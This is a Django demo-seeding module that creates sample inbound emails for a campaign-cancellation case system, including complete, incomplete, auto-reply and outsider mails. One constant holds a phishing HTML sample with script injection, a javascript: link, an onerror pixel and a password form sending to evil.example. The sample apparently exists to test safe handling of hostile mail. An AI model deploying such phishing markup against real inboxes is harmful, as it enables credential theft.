"""Mails of the demo: they come in as any mail does, and lie where such mails lie."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import datetime, timedelta
from email.message import EmailMessage
from typing import Final

from django.conf import settings

from cancellations.actions import orders
from cases import clock, demo
from cases.letters import addresses
from cases.mailbox import ingest
from cases.models import Case, InboundMail, OutboxMessage

ORDER: Final = "T-781200"
RECORD: Final = {
    "client": "Larkspur Senior Living",
    "campaign": "Spring Open House",
    "products": ["Search ads", "Social boost", "Pre-roll video"],
    "references": [],
    "invoice_lines": [
        {"product": "Search ads", "currency": "USD", "invoiced": "1800.00", "fulfilled": "450.00"},
        {"product": "Social boost", "currency": "USD", "invoiced": "950.00", "fulfilled": "950.00"},
    ],
}
MARCO: Final = "Marco Silva <marco.silva@brightreach.example>"
PRISCILLA: Final = "Priscilla Yoon <p.yoon@brightreach.example>"
DANA: Final = "Dana Whitlow <dana.whitlow@brightreach.example>"
QUOTA: Final = "Mail Support <support@mailbox-quota.example>"
COMPLETE: Final = f"""Hi team,

please cancel the following:

Client: Larkspur Senior Living
Campaign: Spring Open House
Titan order ID: {ORDER}
Products:
- Search ads
- Social boost

Thanks
Marco Silva
BrightReach, Media Sales
"""
GAPS: Final = """Hello,

Twin Rivers gives up a part of its order. Please cancel.

Client: Twin Rivers Casino
Campaign: Paint and Primer Days

Thank you
Priscilla Yoon
"""
QUESTION: Final = """Good morning,

is the cancellation for Copperfield Hardware done? The client asks me every day.

Dana Whitlow
"""
AWAY: Final = """Thank you for your mail. I am out of the office until Monday and read no mail.
For urgent matters call 555 0142.
"""
STRANGER: Final = """Hello,

I now look after this client. Please add the product Homepage takeover to this cancellation.

Jordan Pike
"""
HOSTILE: Final = """<html><body><script>alert("out")</script>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">
<a href="javascript:alert(1)">You have won</a></div>
<form action="https://evil.example/"><input name="password" type="password">
<button>Sign in again</button></form>
<img src="https://evil.example/pixel.gif" width="1" height="1" onerror="alert(2)">
<p>Your mailbox is <b>almost full</b>. <a href="https://evil.example/login">Keep it</a> within 24 hours.</p>
</body></html>"""


def seed_mails(now: datetime) -> int:
    """Brings the mails in, within the last two days before `now`; answers how many."""
    hours = {name: now - timedelta(hours=back) for name, back in _BACK.items()}
    with clock.fixed_at(hours["order"]):
        orders.keep(ORDER, RECORD)
    whole = _bring(hours["complete"], "complete", MARCO, "Cancel Larkspur, two products", COMPLETE)
    gaps = _bring(hours["gaps"], "gaps", PRISCILLA, "Cancellation Twin Rivers", GAPS)
    _bring(hours["question"], "question", DANA, "Done yet?", QUESTION)
    _bring(hours["hostile"], "hostile", QUOTA, "Your mailbox", "", html=HOSTILE)
    if gaps.case is not None:
        _about(gaps.case, hours)
    for case in filter(None, (whole.case, gaps.case)):
        demo.fire_until(case, now)
    return len(_BACK) - 1


_BACK: Final = {
    "order": 900.0,
    "complete": 7.5,
    "gaps": 27.0,
    "away": 26.9,
    "stranger": 5.0,
    "question": 3.2,
    "hostile": 1.4,
}


def _about(case: Case, hours: Mapping[str, datetime]) -> None:
    """What comes to the case with gaps: a machine's answer, and somebody who has no part in it."""
    asked = OutboxMessage.objects.filter(case=case.pk, channel="mail").order_by("pk").first()
    answering = {"Auto-Submitted": "auto-replied", "In-Reply-To": asked.message_id if asked else ""}
    _bring(hours["away"], "away", PRISCILLA, "Out of office: Cancellation Twin Rivers", AWAY, **answering)
    to = addresses.reply_to(case.reference)
    pike = "Jordan Pike <jordan.pike@freemail.example>"
    _bring(hours["stranger"], "stranger", pike, f"Re: [{case.reference}]", STRANGER, to=to)


def _bring(
    at: datetime,
    name: str,
    sender: str,
    subject: str,
    text: str,
    *,
    html: str = "",
    to: str = "",
    **headers: str,
) -> InboundMail:
    """A mail as it came then."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, to or settings.MAIL_REPLY_TO, subject
    mail["Date"], mail["Message-ID"] = at, f"<{name}.{at:%Y%m%d%H%M%S}@mail.example>"
    for key, value in headers.items():
        if value:
            mail[key] = value
    mail.set_content(text or "Please turn on the display of HTML.")
    if html:
        mail.add_alternative(html, subtype="html")
    with clock.fixed_at(at):
        return ingest(mail.as_bytes(), source=InboundMail.Source.SMTP, received_at=at).mail
